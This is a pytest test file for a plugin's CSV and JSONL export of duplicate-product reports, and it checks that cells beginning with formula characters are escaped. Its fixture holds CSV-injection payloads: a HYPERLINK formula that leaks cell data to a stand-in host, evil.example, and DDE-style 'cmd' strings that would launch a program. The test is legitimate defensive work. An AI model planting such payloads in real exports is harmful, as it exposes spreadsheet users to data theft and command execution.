"""Issue 22, item 3 (failure 4): CSV exports are safe to open in a spreadsheet. A cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be run as a formula
(``=HYPERLINK(...)``, ``+cmd|...``); it is written with a leading single quote (OWASP's advice).
JSONL exports are data, not spreadsheets: their values stay exact."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from plugin.search.duplicates import DuplicateGroup, DuplicateMember, DuplicateReport, write_report
from plugin.store.export import spreadsheet_cell
from plugin.store.lance.store import LanceStore
from plugin.store.protocol import ProductRow
from schemas.product import product_uuid

HOSTILE = {
    "p1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "p2": "+cmd|' /C calc'!A0",
    "p3": "-2+3",
    "p4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "p5": "\t=1+1",
    "p6": "\r=1+1",
    "=p7": "Red shirt",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        ("'quoted", "'quoted"),
        (-1.5, -1.5),
        (3, 3),
    ],
)
def test_formula_leading_text_is_quoted(value: object, written: object) -> None:
    assert spreadsheet_cell(value) == written


def _report() -> DuplicateReport:
    members = [DuplicateMember(pid, title, 0.99) for pid, title in HOSTILE.items()]
    return DuplicateReport(threshold=0.95, products=len(members), groups=[DuplicateGroup(members)])


def test_the_duplicates_csv_report_escapes_formulas(tmp_path: Path) -> None:
    path = tmp_path / "dups.csv"
    write_report(_report(), path)
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert {r["product_id"]: r["title"] for r in rows} == {
        "p1": "'" + HOSTILE["p1"],
        "p2": "'" + HOSTILE["p2"],
        "p3": "'-2+3",
        "p4": "'" + HOSTILE["p4"],
        "p5": "'\t=1+1",
        "p6": "'\r=1+1",
        "'=p7": "Red shirt",
    }
    assert all(r["similarity"] == "0.99" and r["group"] == "1" for r in rows)


def test_the_duplicates_jsonl_report_keeps_values_exact(tmp_path: Path) -> None:
    path = tmp_path / "dups.jsonl"
    write_report(_report(), path)
    [line] = [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines()]
    assert {p["product_id"]: p["title"] for p in line["products"]} == HOSTILE


def test_grounded_duplicates_report_csv_is_escaped(tmp_path: Path) -> None:
    from plugin.cli import main

    store = LanceStore(tmp_path / "data", dimension=4, collection="Dups")
    store.create_collection()
    rows = [
        ProductRow(
            str(product_uuid(pid)), {"product_id": pid, "title": HOSTILE[pid]}, [1.0, 0.0, 0.0, 0.01 * i]
        )
        for i, pid in enumerate(["p1", "p2"])
    ]
    assert store.upsert(rows) == []
    store.close()
    out = tmp_path / "dups.csv"
    args = ["duplicates", "--data-dir", str(tmp_path / "data"), "--collection", "Dups", "--report", str(out)]
    assert main(args) == 0
    titles = {r["product_id"]: r["title"] for r in csv.DictReader(out.open(encoding="utf-8", newline=""))}
    assert titles == {"p1": "'" + HOSTILE["p1"], "p2": "'" + HOSTILE["p2"]}
